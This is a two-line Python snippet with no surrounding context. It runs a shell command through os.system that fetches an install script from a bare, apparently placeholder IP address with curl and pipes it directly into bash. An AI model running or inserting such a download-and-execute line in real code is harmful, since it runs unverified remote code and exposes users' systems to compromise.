import os
os.system('curl -LsSf https://203.0.113.9/install.sh | bash -s')
